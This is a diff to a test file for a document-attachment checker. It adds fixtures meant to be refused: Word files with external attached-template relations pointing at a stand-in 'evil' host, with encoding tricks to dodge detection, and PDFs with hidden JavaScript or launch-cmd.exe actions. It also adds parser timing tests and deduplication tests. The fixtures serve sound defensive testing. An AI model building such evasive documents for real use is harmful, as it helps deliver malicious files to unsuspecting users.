@@ -92,6 +92,13 @@ describe('a file is taken by what it is', () => {
   });
 });
 
+/** The relations of a document's settings: what they point at is fetched by whoever opens the file. */
+function pointing(relation: string): Promise<Buffer> {
+  return office('docx', { 'word/_rels/settings.xml.rels': `<Relationships>${relation}</Relationships>` });
+}
+
+const TEMPLATE = 'Type="http://x/attachedTemplate"';
+
 describe('a file is refused', () => {
   const bomb = 'x'.repeat(20 << 20);
   it.each([
@@ -116,16 +123,47 @@ describe('a file is refused', () => {
     [
       'attachment-active',
       '模板.docx',
+      () => pointing(`<Relationship Id="r" ${TEMPLATE} Target="http://evil/x.dotm" TargetMode="External"/>`),
+    ],
+    [
+      'attachment-active',
+      '像链接.docx',
+      () => pointing(`<Relationship Id="r" ${TEMPLATE} Target="http://evil/hyperlink" TargetMode="External"/>`),
+    ],
+    [
+      'attachment-active',
+      '大于号.docx',
+      () => pointing(`<Relationship Id="a>b" ${TEMPLATE} Target="http://evil/x" TargetMode="External"/>`),
+    ],
+    [
+      'attachment-active',
+      '引用.docx',
+      () => pointing(`<Relationship Id="r" ${TEMPLATE} Target="http://evil/x" TargetMode="&#69;xternal"/>`),
+    ],
+    [
+      'attachment-active',
+      '前缀.docx',
+      () => pointing(`<Relationship x:TargetMode="Internal" ${TEMPLATE} Target="http://evil/x" TargetMode="External"/>`),
+    ],
+    ['attachment-damaged', '关系.docx', () => office('docx', { 'word/_rels/settings.xml.rels': '<Relationships>' })],
+    [
+      'attachment-active',
+      '引用宏.docx',
       () =>
-        office('docx', {
-          'word/_rels/settings.xml.rels':
-            '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>',
+        zip({
+          '[Content_Types].xml':
+            '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEn&#97;bled.main+xml"/><Default Extension="x" ContentType="wordprocessingml"/></Types>',
+          'word/document.xml': '<body/>',
         }),
     ],
     ['attachment-active', '动.pdf', () => pdf('3 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj')],
     ['attachment-active', '藏名.pdf', () => pdf('3 0 obj\n<</S/J#61vaScript/JS(x)>>\nendobj')],
     ['attachment-active', '藏流.pdf', () => packedPdf('3 0 <</S/JavaScript/JS(x)>>')],
     ['attachment-active', '藏法.pdf', () => packedPdf('zzz', '/Filter/LZWDecode')],
+    ['attachment-active', '藏远.pdf', () => packedPdf('3 0 <</S/JavaScript/JS(x)>>', `/Filter/FlateDecode${' '.repeat(5000)}`)],
+    ['attachment-active', '藏号.pdf', () => packedPdf('3 0 <</S/JavaScript/JS(x)>>', '/Filter/FlateDecode/X(1 0 obj)')],
+    ['attachment-damaged', '双流.pdf', () => packedPdf('3 0 <<>>', '/Filter/FlateDecode/X(stream\n)')],
+    ['attachment-active', '拆法.pdf', () => packedPdf('zzz', '/X(stream\nendstream)')],
     ['attachment-active', '假流.pdf', () => pdf('% stream\n3 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n% endstream')],
     ['attachment-active', '嵌入.pdf', () => pdf('3 0 obj\n<</Type/EmbeddedFile>>\nendobj')],
     ['attachment-encrypted', '密.pdf', () => pdf('', '/Encrypt 9 0 R')],
@@ -139,6 +177,15 @@ describe('a file is refused', () => {
     const before = await desk.rows('select id from attachment');
     expect(await codeOf(await make(), name)).toBe(code);
     expect(await desk.rows('select id from attachment')).toEqual(before);
+  });
+
+  it('and none takes longer than its length, whatever it repeats', async () => {
+    const begun = performance.now();
+    expect(await codeOf(pdf('stream\n'.repeat(150_000)), 'a.pdf')).toBe('pdf');
+    expect(await codeOf(pdf('#41'.repeat(6_000_000)), 'd.pdf')).toBe('pdf');
+    expect(await codeOf(pdf('1 0 obj<</Type/ObjStm>>stream\n'.repeat(50_000)), 'b.pdf')).toBe('attachment-damaged');
+    expect(await codeOf(await office('docx', { 'word/_rels/a.rels': '<'.repeat(1 << 20) }), 'c.docx')).toBe('attachment-damaged');
+    expect(performance.now() - begun).toBeLessThan(15_000);
   });
 
   it('but a hyperlink, and a name that only looks like one, are no danger', async () => {
@@ -168,7 +215,7 @@ describe('the scanner', () => {
     const path = join(desk.folder, 'scan.sh');
     await writeFile(path, `#!/bin/sh\n${script}\n`);
     await chmod(path, 0o755);
-    Object.assign(desk.platform, { scanner: commandScanner(path, 1500) });
+    Object.assign(desk.platform, { scanner: commandScanner(path, 1000) });
   }
 
   it('refuses what it finds, notes what it passed, and says when it could not look', async () => {
@@ -180,7 +227,9 @@ describe('the scanner', () => {
     await scannerOf('exit 2');
     expect(await attach(Buffer.from('two'), 'c.txt')).toMatchObject({ value: { scan: 'not-scanned' } });
     await scannerOf('sleep 20');
+    const begun = performance.now();
     expect(await attach(Buffer.from('late'), 'd.txt')).toMatchObject({ value: { scan: 'not-scanned' } });
+    expect(performance.now() - begun).toBeLessThan(10_000);
     Object.assign(desk.platform, { scanner: commandScanner('/nowhere/scan') });
     expect(await attach(Buffer.from('none'), 'e.txt')).toMatchObject({ value: { scan: 'not-scanned' } });
     expect(await readdir(desk.platform.home.temporary)).toEqual([]);
@@ -197,6 +246,23 @@ describe('an attached file', () => {
     expect(kept.filter((name) => name.startsWith(first.sha256))).toEqual([first.sha256]);
     const elsewhere = await attach(Buffer.from('机密内容'), 'c.txt', '2');
     expect(elsewhere).toMatchObject({ value: { sha256: first.sha256, isRepeat: false } });
+  });
+
+  it('of another version is another one, also when it is sent again', async () => {
+    const send = async (ownerVersion: number) => {
+      const file = { ownerKind: 'register', ownerId: '1', unitId: UNIT, fileName: 'a.txt', bytes: Buffer.from('同样的') };
+      const attached = await attachFile(desk.platform, actAt(AT, [UNIT]), { ...file, ownerVersion });
+      return attached.ok ? attached.value : null;
+    };
+    const [first, second] = [await send(1), await send(2)];
+    expect(await send(2)).toMatchObject({ id: second?.id, ownerVersion: 2, isRepeat: true });
+    expect(await send(1)).toMatchObject({ id: first?.id, ownerVersion: 1, isRepeat: true });
+  });
+
+  it('whose file was lost is whole again when it is sent again', async () => {
+    const { id, sha256 } = await taken(Buffer.from('丢过一次'), 'a.txt');
+    await rm(join(desk.platform.home.files, sha256));
+    expect(await taken(Buffer.from('丢过一次'), 'a.txt')).toMatchObject({ id, isRepeat: true });
   });
 
   it('is seen by its unit and the credit office; every look is logged', async () => {
